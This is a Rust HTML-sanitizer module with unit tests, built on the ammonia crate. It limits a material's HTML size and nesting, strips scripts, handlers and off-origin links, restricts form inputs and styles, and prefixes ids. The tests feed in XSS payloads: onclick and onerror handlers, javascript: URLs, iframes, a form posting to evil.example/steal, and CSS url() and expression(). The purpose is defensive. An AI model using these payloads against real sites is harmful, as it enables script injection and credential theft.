//! What a material's HTML may be, checked before it leaves the server.
//!
//! First the budget ([`Budget`]): HTML longer than `max_html_bytes` or
//! nested deeper than `max_html_depth` is refused whole (a failure of the
//! material), because parsing pathological markup is what costs time.
//! Then the policy ([`clean`]), whatever the guest emitted:
//!
//! - no script, no event-handler attributes, no frames, objects or embeds;
//! - links only to [`hangar_policy::link_allowed`] targets, images only from
//!   [`hangar_policy::image_allowed`] sources (the page's own origin); no
//!   `srcset`;
//! - forms without `action` or `method` (a form submits to the page itself
//!   or nowhere) and inputs without the `password`, `file` and `image`
//!   types;
//! - inline `style` only with a few presentational properties whose values
//!   are checked ([`clean_style`]): colours, alignment, font weight, style
//!   and size, spacing, widths, `object-fit`. No `url()`, no functions but
//!   `rgb()`/`rgba()`. The page CSP allows style attributes and nothing
//!   else inline (`style-src-attr 'unsafe-inline'`), exactly what this
//!   keeps;
//! - `id`s, and the attributes that point at them (`for`,
//!   `aria-labelledby`, `aria-describedby`, `href="#..."`), prefixed with
//!   `m-`, so a material cannot clobber the page's own elements and labels
//!   still point at their inputs;
//! - `data-hangar-slot` on `div` only, with a well-formed slot name: where
//!   the host puts a slot's children.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::OnceLock;

use ammonia::Builder;

/// Prefix of every id a material's HTML carries.
pub const ID_PREFIX: &str = "m-";

/// The size and nesting budget of one render's HTML.
#[derive(Debug, Clone, Copy)]
pub struct Budget {
    /// Most bytes.
    pub max_bytes: usize,
    /// Deepest element nesting.
    pub max_depth: usize,
}

impl Budget {
    /// Checks `html` against the budget.
    ///
    /// # Errors
    /// What was over budget.
    pub fn check(&self, html: &str) -> Result<(), String> {
        if html.len() > self.max_bytes {
            return Err(format!(
                "HTML of {} bytes; the limit is {}",
                html.len(),
                self.max_bytes
            ));
        }
        let depth = nesting_depth(html);
        if depth > self.max_depth {
            return Err(format!(
                "HTML nested {depth} elements deep; the limit is {}",
                self.max_depth
            ));
        }
        Ok(())
    }
}

/// Elements that never have children.
const VOID: &[&str] = &[
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track",
    "wbr",
];
/// Elements an opening tag of the same name closes implicitly.
const SELF_CLOSING_SIBLINGS: &[&str] = &["p", "li", "dt", "dd", "option", "tr", "td", "th"];

/// How deeply elements nest in `html`, as a browser would see it for
/// well-formed markup and as an upper bound for the rest (unclosed tags
/// count as open to the end). Comments and `<!...>` are skipped.
pub fn nesting_depth(html: &str) -> usize {
    let bytes = html.as_bytes();
    let mut open: Vec<String> = Vec::new();
    let mut max = 0;
    let mut i = 0;
    while let Some(offset) = bytes[i..].iter().position(|&b| b == b'<') {
        i += offset + 1;
        if html[i..].starts_with("!--") {
            i = html[i..].find("-->").map_or(bytes.len(), |end| i + end + 3);
            continue;
        }
        let closing = bytes.get(i) == Some(&b'/');
        let start = if closing { i + 1 } else { i };
        let name_len = bytes[start..]
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
            .count();
        let tag_end = html[start..]
            .find('>')
            .map_or(bytes.len(), |end| start + end + 1);
        if name_len == 0 {
            i = tag_end.max(i);
            continue;
        }
        let name = html[start..start + name_len].to_ascii_lowercase();
        let self_closed = html[start..tag_end].trim_end_matches('>').ends_with('/');
        if closing {
            if let Some(at) = open.iter().rposition(|n| *n == name) {
                open.truncate(at);
            }
        } else if !VOID.contains(&name.as_str()) && !self_closed {
            if SELF_CLOSING_SIBLINGS.contains(&name.as_str())
                && open.last().is_some_and(|top| *top == name)
            {
                open.pop();
            }
            open.push(name);
            max = max.max(open.len());
        }
        i = tag_end;
    }
    max
}

/// Input types a material's form may use.
const INPUT_TYPES: &[&str] = &[
    "text",
    "email",
    "number",
    "tel",
    "url",
    "search",
    "date",
    "time",
    "datetime-local",
    "month",
    "week",
    "color",
    "range",
    "checkbox",
    "radio",
    "hidden",
    "submit",
    "reset",
    "button",
];

fn prefixed_ids(value: &str) -> String {
    value
        .split_ascii_whitespace()
        .map(|id| format!("{ID_PREFIX}{id}"))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Keeps, rewrites or drops one attribute value (`None` drops it).
fn filter_attribute<'a>(element: &str, attribute: &str, value: &'a str) -> Option<Cow<'a, str>> {
    match (element, attribute) {
        ("a", "href") => {
            let value = value.trim();
            if let Some(fragment) = value.strip_prefix('#') {
                return Some(format!("#{ID_PREFIX}{fragment}").into());
            }
            hangar_policy::link_allowed(value).then_some(value.into())
        }
        ("img", "src") => hangar_policy::image_allowed(value).then_some(value.into()),
        ("input", "type") => INPUT_TYPES
            .contains(&value.trim().to_ascii_lowercase().as_str())
            .then_some(value.into()),
        (_, "id" | "for" | "aria-labelledby" | "aria-describedby") => {
            Some(prefixed_ids(value).into())
        }
        (_, "style") => clean_style(value).map(Cow::Owned),
        ("div", "data-hangar-slot") => super::structure::valid_name(value).then_some(value.into()),
        _ => Some(value.into()),
    }
}

fn is_length(value: &str, auto: bool) -> bool {
    if value == "0" || (auto && value == "auto") {
        return true;
    }
    let number_end = value
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(value.len());
    let (number, unit) = value.split_at(number_end);
    !number.is_empty()
        && number.len() <= 8
        && number.parse::<f64>().is_ok()
        && ["px", "em", "rem", "%", "vw", "vh", "ch"].contains(&unit)
}

fn is_lengths(value: &str, auto: bool) -> bool {
    let parts: Vec<&str> = value.split_ascii_whitespace().collect();
    (1..=4).contains(&parts.len()) && parts.iter().all(|p| is_length(p, auto))
}

fn is_colour(value: &str) -> bool {
    if let Some(hex) = value.strip_prefix('#') {
        return [3, 4, 6, 8].contains(&hex.len()) && hex.bytes().all(|b| b.is_ascii_hexdigit());
    }
    if let Some(args) = value
        .strip_prefix("rgba(")
        .or_else(|| value.strip_prefix("rgb("))
        .and_then(|rest| rest.strip_suffix(')'))
    {
        return args.len() <= 40
            && args
                .bytes()
                .all(|b| b.is_ascii_digit() || b" ,.%/".contains(&b));
    }
    (1..=24).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_alphabetic())
}

/// Keeps the declarations of `style` whose property is allowed and whose
/// value is well-formed for it; `None` when none is left.
pub fn clean_style(style: &str) -> Option<String> {
    let kept: Vec<String> = style
        .split(';')
        .filter_map(|declaration| {
            let (property, value) = declaration.split_once(':')?;
            let property = property.trim().to_ascii_lowercase();
            let value = value.trim().to_ascii_lowercase();
            let ok = match property.as_str() {
                "color" | "background-color" => is_colour(&value),
                "text-align" => {
                    ["left", "right", "center", "justify", "start", "end"].contains(&&*value)
                }
                "font-weight" => {
                    ["normal", "bold", "bolder", "lighter"].contains(&&*value)
                        || (value.len() == 3
                            && value.ends_with("00")
                            && value.as_bytes()[0].is_ascii_digit())
                }
                "font-style" => ["normal", "italic", "oblique"].contains(&&*value),
                "object-fit" => {
                    ["contain", "cover", "fill", "none", "scale-down"].contains(&&*value)
                }
                "font-size" | "border-radius" | "max-width" | "width" | "gap" => {
                    is_lengths(&value, false)
                }
                "padding" | "margin" => is_lengths(&value, true),
                _ => false,
            };
            ok.then(|| format!("{property}:{value}"))
        })
        .collect();
    (!kept.is_empty()).then(|| kept.join(";"))
}

fn builder() -> &'static Builder<'static> {
    static BUILDER: OnceLock<Builder<'static>> = OnceLock::new();
    BUILDER.get_or_init(|| {
        let mut b = Builder::default();
        b.add_tags([
            "form",
            "input",
            "label",
            "select",
            "option",
            "textarea",
            "button",
            "fieldset",
            "legend",
            "section",
            "article",
            "header",
            "footer",
            "figure",
            "figcaption",
        ]);
        b.add_generic_attributes([
            "class",
            "role",
            "id",
            "aria-label",
            "aria-hidden",
            "aria-disabled",
            "aria-describedby",
            "aria-labelledby",
            "title",
            "style",
        ]);
        b.add_tag_attributes("a", ["href", "target"]);
        b.add_tag_attributes("img", ["src", "alt", "width", "height", "loading"]);
        b.add_tag_attributes(
            "input",
            [
                "type",
                "name",
                "value",
                "placeholder",
                "required",
                "disabled",
                "checked",
                "min",
                "max",
                "minlength",
                "maxlength",
                "pattern",
                "autocomplete",
            ],
        );
        b.add_tag_attributes(
            "textarea",
            ["name", "placeholder", "required", "rows", "maxlength"],
        );
        b.add_tag_attributes("select", ["name", "required"]);
        b.add_tag_attributes("option", ["value", "selected"]);
        b.add_tag_attributes("label", ["for"]);
        // A slot's place (`wit/plugin.wit`), filled by the host.
        b.add_tag_attributes("div", ["data-hangar-slot"]);
        b.add_tag_attributes("button", ["type", "name", "value", "disabled"]);
        b.url_schemes(
            hangar_policy::LINK_SCHEMES
                .iter()
                .copied()
                .collect::<HashSet<_>>(),
        );
        b.link_rel(Some("noopener noreferrer"));
        b.attribute_filter(filter_attribute);
        b
    })
}

/// `html` with everything that could run, leave the page's origin or
/// restyle the page removed.
pub fn clean(html: &str) -> String {
    builder().clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::{Budget, clean, clean_style, nesting_depth};

    #[test]
    fn scripts_handlers_and_javascript_urls_are_removed() {
        let dirty = r#"<div class="x" onclick="steal()"><script>alert(1)</script><a href="javascript:alert(2)">a</a><img src="x" onerror="boom()"><iframe src="https://evil.example"></iframe><p style="position:fixed">t</p></div>"#;
        let cleaned = clean(dirty);
        for bad in [
            "onclick",
            "<script",
            "alert(",
            "javascript:",
            "onerror",
            "<iframe",
            "position",
        ] {
            assert!(!cleaned.contains(bad), "{bad} survived: {cleaned}");
        }
        assert!(cleaned.contains(r#"class="x""#), "{cleaned}");
    }

    #[test]
    fn links_and_images_leave_only_to_allowed_places() {
        let cleaned = clean(
            r#"<a href="//evil.example">1</a><a href="/\evil.example">2</a><a href="https://ok.example/">3</a><a href="/cart">4</a><img src="https://tracker.example/p.gif"><img src="/files/f1" srcset="javascript:alert(1) 1x, https://evil/x 2x"><picture><source srcset="https://evil/x"></picture>"#,
        );
        for bad in ["evil", "tracker", "srcset", "javascript", "<source"] {
            assert!(!cleaned.contains(bad), "{bad} survived: {cleaned}");
        }
        for good in [
            r#"href="https://ok.example/""#,
            r#"href="/cart""#,
            r#"src="/files/f1""#,
        ] {
            assert!(cleaned.contains(good), "{good} lost: {cleaned}");
        }
    }

    #[test]
    fn forms_cannot_post_elsewhere_or_ask_for_passwords() {
        let cleaned = clean(
            r#"<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><input type="file" name="f"><input type="email" name="e"></form>"#,
        );
        for bad in ["action", "method", "password", "file"] {
            assert!(!cleaned.contains(bad), "{bad} survived: {cleaned}");
        }
        assert!(cleaned.contains(r#"type="email""#), "{cleaned}");
    }

    #[test]
    fn styles_keep_only_checked_values() {
        assert_eq!(
            clean_style("text-align:center; color:#ff0000; position:absolute").as_deref(),
            Some("text-align:center;color:#ff0000")
        );
        for bad in [
            "background-color: url(https://evil/x)",
            "color: expression(alert(1))",
            "width: calc(100% - 1px)",
            "font-size: 12px; color: red\\;",
            "object-fit: cover; background-image: url(x)",
        ] {
            let kept = clean_style(bad).unwrap_or_default();
            assert!(
                !kept.contains("url") && !kept.contains('(') && !kept.contains('\\'),
                "{bad} → {kept}"
            );
        }
        assert_eq!(
            clean_style("margin: 0 auto; padding: 4px 8px").as_deref(),
            Some("margin:0 auto;padding:4px 8px")
        );
        let cleaned =
            clean(r#"<h1 style="text-align:center;color:#ff0000;position:absolute">Hi</h1>"#);
        assert!(
            cleaned.contains(r#"style="text-align:center;color:#ff0000""#),
            "{cleaned}"
        );
    }

    #[test]
    fn ids_and_what_points_at_them_are_prefixed_together() {
        let cleaned = clean(
            r##"<label for="email">Email</label><input id="email" aria-describedby="hint"><p id="hint">h</p><a href="#email">go</a>"##,
        );
        for good in [
            r#"for="m-email""#,
            r#"id="m-email""#,
            r#"aria-describedby="m-hint""#,
            r##"href="#m-email""##,
        ] {
            assert!(cleaned.contains(good), "{good} missing: {cleaned}");
        }
    }

    #[test]
    fn nesting_is_measured_like_a_browser_would() {
        assert_eq!(nesting_depth("<div><p>a</p><p>b</p></div>"), 2);
        assert_eq!(nesting_depth("<ul><li>a<li>b<li>c</ul>"), 2);
        assert_eq!(nesting_depth("<div><br><img src=x><input/></div>"), 1);
        assert_eq!(nesting_depth("<!-- <div><div> --><span></span>"), 1);
        assert_eq!(nesting_depth(&"<div>".repeat(1000)), 1000);
        assert_eq!(nesting_depth(&"<b>".repeat(300)), 300);
        let budget = Budget {
            max_bytes: 1000,
            max_depth: 64,
        };
        assert!(budget.check(&"<div>".repeat(65)).is_err());
        assert!(budget.check(&"<div></div>".repeat(90)).is_ok());
        assert!(budget.check(&"x".repeat(1001)).is_err());
    }
}
